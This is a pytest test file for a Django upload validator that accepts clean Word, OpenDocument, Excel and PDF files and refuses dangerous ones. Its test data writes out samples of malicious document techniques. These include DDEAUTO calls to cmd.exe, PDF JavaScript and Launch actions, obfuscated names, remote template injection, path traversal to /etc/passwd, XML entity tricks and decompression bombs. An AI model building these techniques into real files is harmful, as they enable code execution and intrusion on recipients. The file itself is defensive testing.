"""Files offered for upload: the good ones of each kind are taken, whatever runs, fetches or hides is refused."""

import struct
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile

from portal.core import uploads
from tests.core.uploaded_files import GOOD, docx, odt, packed, pdf, relation, xlsx, zipped

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64
FIELD = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>{}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
HARMLESS = b"4 0 << /Type /Annot >>"
SECRET = b"4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"


def refusal(name: str, content: bytes) -> str:
    """The code of the refusal; empty when the file is taken."""
    try:
        uploads.check(ContentFile(content, name=name))
    except ValidationError as error:
        return str(error.code)
    return ""


def instruction(*runs: str) -> str:
    return FIELD.format("".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs))


@pytest.mark.parametrize("name", GOOD)
def test_a_good_file_is_taken(name: str) -> None:
    assert refusal(name, GOOD[name]) == ""
    assert refusal(name.upper(), GOOD[name]) == ""


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("don.docx", docx(relation("hyperlink", "https://dichvucong.gov.vn/", external=True))),
        ("don.docx", docx(relation("attachedTemplate", r"file:///C:\Users\an\Normal.dotm", external=True))),
        (
            "don.docx",
            docx(relation("image", "media/image1.png"), parts={"word/media/image1.png": b"\x89PNG"}),
        ),
        ("don.docx", docx(body=instruction(' HYPERLINK "https://x.vn/import/link" '))),
        ("don.docx", docx(body=instruction(" PAGE "))),
        ("don.odt", odt(body='<text:a xlink:href="https://dichvucong.gov.vn/">a</text:a>')),
        ("don.odt", odt(scripts="<office:scripts/>")),
        ("don.odt", odt(body='<draw:image xlink:href="Pictures/1.png"/>')),
        ("don.pdf", pdf(packed(b"4 0 << /Type /Annot >>"))),
        ("don.pdf", pdf(b"<< /Type /Action /S /URI /URI (https://dichvucong.gov.vn/) >>")),
        ("don.pdf", pdf(packed(b"BT (x) Tj ET", keys=b""))),
    ],
)
def test_what_does_no_harm_is_taken(name: str, content: bytes) -> None:
    assert refusal(name, content) == ""


@pytest.mark.parametrize(
    ("code", "name", "content"),
    [
        ("kind", "don.docm", docx()),
        ("kind", "don.exe", b"MZ"),
        ("kind", "don", GOOD["don.pdf"]),
        ("empty", "don.pdf", b""),
        ("old", "don.docx", OLE),
        ("content", "don.pdf", docx()),
        ("content", "don.docx", pdf()),
        ("content", "don.docx", xlsx()),
        ("content", "don.xlsx", docx()),
        ("content", "don.docx", odt()),
        ("content", "don.odt", docx()),
        ("content", "don.docx", zipped({"a.txt": "a"})),
        ("broken", "don.docx", GOOD["don.docx"][:200]),
        ("broken", "don.pdf", GOOD["don.pdf"][:-8]),
        ("broken", "don.docx", docx(parts={"../../etc/passwd": "x"})),
        ("broken", "don.docx", docx(parts={"word/_rels/a.rels": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'})),
        ("broken", "don.docx", docx(parts={"word/_rels/a.rels": "<a>"})),
    ],
)
def test_what_is_not_what_it_says_is_refused(code: str, name: str, content: bytes) -> None:
    assert refusal(name, content) == code


@pytest.mark.parametrize(
    ("code", "content"),
    [
        ("macros", docx(parts={"word/vbaProject.bin": OLE})),
        ("macros", docx(parts={"word/vbaData.xml": "<a/>"})),
        ("macros", docx(main=MACRO_WORD)),
        (
            "macros",
            docx(more='<Override PartName="/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        ),
        ("macros", docx(relation("vbaProject", "x.bin"))),
        ("active", docx(parts={"word/activeX/activeX1.xml": "<a/>"})),
        ("active", docx(relation("control", "x.xml"))),
        ("active", docx(parts={"customUI/customUI14.xml": "<a/>"})),
        ("active", docx(body=instruction(" DD", "EAUTO c:\\\\windows\\\\cmd.exe "))),
        ("active", docx(body='<w:fldSimple w:instr=" DDE excel x "/>')),
        ("active", docx(body=instruction(" INCLUDEPICTURE ", '"http://x.example/a.png" '))),
        (
            "active",
            docx(parts={"word/header1.xml": f"<w:hdr xmlns:w='w'>{instruction(' DDE a b ')}</w:hdr>"}),
        ),
        ("embedded", docx(parts={"word/embeddings/oleObject1.bin": OLE})),
        ("embedded", docx(relation("oleObject", "x.bin"))),
        ("embedded", docx(relation("aFChunk", "x.html"))),
        ("embedded", docx(parts={"word/media/image1.png": b"MZ" + b"\x00" * 60})),
        ("embedded", docx(parts={"word/media/image1.png": docx()})),
        ("elsewhere", docx(relation("attachedTemplate", "https://x.example/t.dotm", external=True))),
        ("elsewhere", docx(relation("attachedTemplate", r"\\x.example\t.dotm", external=True))),
        ("elsewhere", docx(relation("attachedTemplate", "file://x.example/t.dotm", external=True))),
        ("elsewhere", docx(relation("image", "http://x.example/a.png", external=True))),
        ("elsewhere", docx(relation("frame", "http://x.example/", external=True))),
        ("elsewhere", docx(relation("hyperlink", r"file:///\\x.example\a", external=True))),
    ],
)
def test_documents_that_run_fetch_or_hide_something(code: str, content: bytes) -> None:
    assert refusal("don.docx", content) == code


@pytest.mark.parametrize(
    ("code", "content"),
    [
        ("macros", xlsx(parts={"xl/macrosheets/sheet1.xml": "<a/>"})),
        ("macros", xlsx(relation("xlMacrosheet", "x.xml"))),
        ("macros", xlsx(parts={"xl/vbaProject.bin": OLE})),
        ("elsewhere", xlsx(parts={"xl/externalLinks/externalLink1.xml": "<ddeLink/>"})),
        ("elsewhere", xlsx(parts={"xl/connections.xml": "<a/>"})),
        ("embedded", xlsx(parts={"xl/embeddings/oleObject1.bin": OLE})),
    ],
)
def test_workbooks_that_run_fetch_or_hide_something(code: str, content: bytes) -> None:
    assert refusal("bang.xlsx", content) == code


@pytest.mark.parametrize(
    ("code", "content"),
    [
        ("macros", odt(parts={"Basic/Standard/Module1.xml": "<a/>"})),
        ("macros", odt(parts={"Scripts/python/a.py": "print()"})),
        ("macros", odt(scripts="<office:scripts><office:script/></office:scripts>")),
        ("macros", odt(body='<text:a xlink:href="vnd.sun.star.script:a?language=Basic">a</text:a>')),
        ("active", odt(scripts='<office:scripts><script:event-listener xlink:href="x"/></office:scripts>')),
        ("active", odt(body="<text:execute-macro/>")),
        ("active", odt(body="<text:dde-connection/>")),
        ("active", odt(body='<draw:plugin xlink:href="a"/>')),
        ("embedded", odt(body='<draw:object-ole xlink:href="./Object 1"/>')),
        ("embedded", odt(parts={"Object 1": OLE})),
        ("elsewhere", odt(body='<draw:image xlink:href="http://x.example/a.png"/>')),
        ("elsewhere", odt(body='<text:section-source xlink:href="file:///etc/passwd"/>')),
        ("elsewhere", odt(body='<draw:floating-frame xlink:href="a"/>')),
        ("locked", odt(manifest="<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>")),
    ],
)
def test_open_documents_that_run_fetch_or_hide_something(code: str, content: bytes) -> None:
    assert refusal("don.odt", content) == code


@pytest.mark.parametrize(
    ("code", "content"),
    [
        ("active", pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")),
        ("active", pdf(b"<< /S /J#61vaScr#69pt /J#53 5 0 R >>")),
        ("active", pdf(b"<< /Type /Action /S /Launch /F (cmd.exe) >>")),
        ("active", pdf(b"<< /AcroForm << /XFA [ (a) 5 0 R ] >> >>")),
        ("active", pdf(b"<< /Subtype /RichMedia >>")),
        ("active", pdf(b"<< /S /SubmitForm /F (http://x.example/) >>")),
        ("active", pdf(packed(SECRET))),
        ("embedded", pdf(b"<< /Type /Filespec /EF << /F 5 0 R >> >>", b"<< /Type /EmbeddedFile >>")),
        ("embedded", pdf(b"<< /Names << /EmbeddedFiles 5 0 R >> >>")),
        ("locked", pdf(b"<< /Encrypt 9 0 R >>")),
        ("hidden", pdf(packed(HARMLESS, coding=b"[/ASCIIHexDecode /FlateDecode]"))),
        ("hidden", pdf(packed(HARMLESS, keys=b"/Type /ObjStm /DecodeParms << /Predictor 12 >>"))),
        ("hidden", pdf(packed(SECRET).replace(b"stream\nx", b"stream\nz"))),
        ("hidden", pdf(b"<< /Type /ObjStm (\nobj) /Filter /LZWDecode >>\nstream\nabc\nendstream")),
    ],
)
def test_pdfs_that_run_or_hide_something(code: str, content: bytes) -> None:
    assert refusal("don.pdf", content) == code


def test_the_largest_file_and_one_byte_more() -> None:
    room = uploads.MOST_BYTES - len(pdf())
    assert refusal("don.pdf", pdf().replace(b"trailer", b"%" + b"0" * (room - 2) + b"\ntrailer")) == ""
    assert refusal("don.pdf", pdf().replace(b"trailer", b"%" + b"0" * (room - 1) + b"\ntrailer")) == "size"


def test_what_unpacks_to_far_more_than_it_weighs() -> None:
    assert refusal("don.docx", docx(parts={"word/a.bin": b"\x00" * 30_000_000})) == "bomb"
    many = {f"word/{n}.xml": "" for n in range(3_001)}
    assert refusal("don.docx", docx(parts=many)) == "bomb"
    layer = packed(b"\x00" * 70_000_000, keys=b"")
    assert refusal("don.pdf", pdf(layer, layer, layer)) == "bomb"


def test_a_part_with_a_password() -> None:
    content = bytearray(docx())
    central = content.rindex(b"PK\x01\x02")
    content[central + 8 : central + 10] = struct.pack("<H", 1)
    assert refusal("don.docx", bytes(content)) == "locked"


def test_damaged_content_is_no_crash() -> None:
    for name, content in GOOD.items():
        for place in range(4, len(content), 7):
            spoiled = content[:place] + bytes([content[place] ^ 0xFF]) + content[place + 1 :]
            refusal(name, spoiled)


def test_reasons_are_said_in_words_an_editor_can_use() -> None:
    with pytest.raises(ValidationError, match="macro"):
        uploads.check(ContentFile(docx(parts={"word/vbaProject.bin": OLE}), name="don.docx"))
    with pytest.raises(ValidationError, match="20 MB"):
        uploads.check(ContentFile(b"%PDF-" + b"0" * uploads.MOST_BYTES, name="don.pdf"))


def test_the_file_is_left_at_its_beginning() -> None:
    file = ContentFile(GOOD["don.pdf"], name="don.pdf")
    uploads.check(file)
    assert file.read(5) == b"%PDF-"
    assert zlib.crc32(GOOD["don.pdf"]) == zlib.crc32(b"%PDF-" + file.read())
